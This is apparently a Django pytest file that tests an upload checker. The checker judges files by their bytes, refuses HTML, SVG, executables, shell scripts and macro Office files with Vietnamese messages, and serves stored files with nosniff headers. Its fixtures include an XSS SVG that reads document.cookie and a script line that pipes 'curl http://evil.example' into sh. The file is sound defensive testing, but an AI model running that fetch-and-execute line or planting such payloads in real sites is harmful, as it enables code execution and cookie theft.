"""Uploads are judged by their content, whatever they are called, and served back so that none can run
in the site's origin: a content type from our own check, inline only when safe, never sniffed."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from bdtx.core import uploads

HTML = b"<!DOCTYPE html><html><body><script>fetch('/accounts/password/change/')</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"/>'
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64 + b"This program cannot be run in DOS mode"
SCRIPT = b"#!/bin/sh\ncurl http://evil.example | sh\n"
PDF = b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 17
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 20
MP4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 16


def ooxml(main: str, part: str) -> bytes:
    """A minimal Office package whose [Content_Types].xml names `part` with the content type `main`."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", f'<Types><Override PartName="/{part}" ContentType="{main}"/></Types>')
        z.writestr(part, "<x/>")
    return buf.getvalue()


DOCX = ooxml("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "word/document.xml")
PPTX = ooxml(
    "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml", "ppt/presentation.xml"
)
XLSM = ooxml("application/vnd.ms-excel.sheet.macroEnabled.main+xml", "xl/workbook.xml")
HOSTILE = {"HTML": HTML, "SVG": SVG, "EXE": EXE, "script": SCRIPT}


@pytest.mark.parametrize(
    ("content", "key", "inline"),
    [(PDF, "pdf", True), (PNG, "png", True), (JPEG, "jpeg", True), (MP4, "mp4", True), (DOCX, "docx", False)],
)
def test_files_are_known_by_their_bytes(content, key, inline):
    found = uploads.sniff(io.BytesIO(content))
    assert found.type is not None and (found.type.key, found.type.inline) == (key, inline)


@pytest.mark.parametrize("what", sorted(HOSTILE))
@pytest.mark.parametrize("name", ["bai-giang.pdf", "giao-an.docx", "anh.png", "video.mp4", "minh-chung"])
@pytest.mark.parametrize("allowed", [uploads.MATERIAL_TYPES, uploads.EVIDENCE_TYPES, uploads.IMPORT_TYPES])
def test_a_web_page_an_svg_a_program_or_a_script_is_refused_whatever_its_name(what, name, allowed):
    with translation.override("vi"), pytest.raises(ValidationError) as refused:
        uploads.upload_accept(SimpleUploadedFile(name, HOSTILE[what]), allowed=allowed, max_bytes=2**20)
    message = " ".join(refused.value.messages)
    assert f"Tệp “{name}” là " in message and "dù tên tệp nói gì. Ở đây chỉ nhận:" in message
    expected = {"HTML": "trang web", "SVG": "ảnh SVG", "EXE": "chương trình", "script": "mã lệnh"}[what]
    assert expected in message


def test_a_file_named_as_another_accepted_type_is_refused_with_both_names():
    with translation.override("vi"), pytest.raises(ValidationError) as refused:
        uploads.upload_accept(SimpleUploadedFile("bai.pdf", PNG), allowed=uploads.MATERIAL_TYPES, max_bytes=2**20)
    assert refused.value.messages == [
        "Tệp “bai.pdf” mang tên của PDF nhưng nội dung là ảnh PNG: hãy đổi tên hoặc lưu lại đúng định dạng."
    ]


def test_office_files_with_macros_and_plain_zips_are_refused():
    for content in (XLSM, _zip({"a.txt": "x"})):
        with pytest.raises(ValidationError):
            uploads.upload_accept(
                SimpleUploadedFile("x.xlsx", content), allowed=uploads.MATERIAL_TYPES, max_bytes=2**20
            )


def test_the_size_is_bounded():
    with translation.override("vi"), pytest.raises(ValidationError) as refused:
        uploads.upload_accept(SimpleUploadedFile("a.pdf", PDF), allowed=uploads.MATERIAL_TYPES, max_bytes=10)
    assert "lớn hơn" in refused.value.messages[0]


def _zip(parts: dict[str, str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, text in parts.items():
            z.writestr(name, text)
    return buf.getvalue()


@pytest.mark.parametrize(
    ("content", "content_type", "disposition"),
    [
        (PDF, "application/pdf", "inline"),
        (PNG, "image/png", "inline"),
        (DOCX, "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "attachment"),
        (HTML, "application/octet-stream", "attachment"),  # stored before the checks: a download of unknown type
        (SVG, "application/octet-stream", "attachment"),
    ],
)
def test_stored_files_are_served_by_what_they_are_with_nosniff(content, content_type, disposition):
    response = uploads.file_response(
        ContentFile(content, name="x"), filename="tai-lieu.pdf", allowed=uploads.MATERIAL_TYPES
    )
    assert response["Content-Type"] == content_type and response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"].startswith(disposition)
    assert b"".join(response.streaming_content) == content
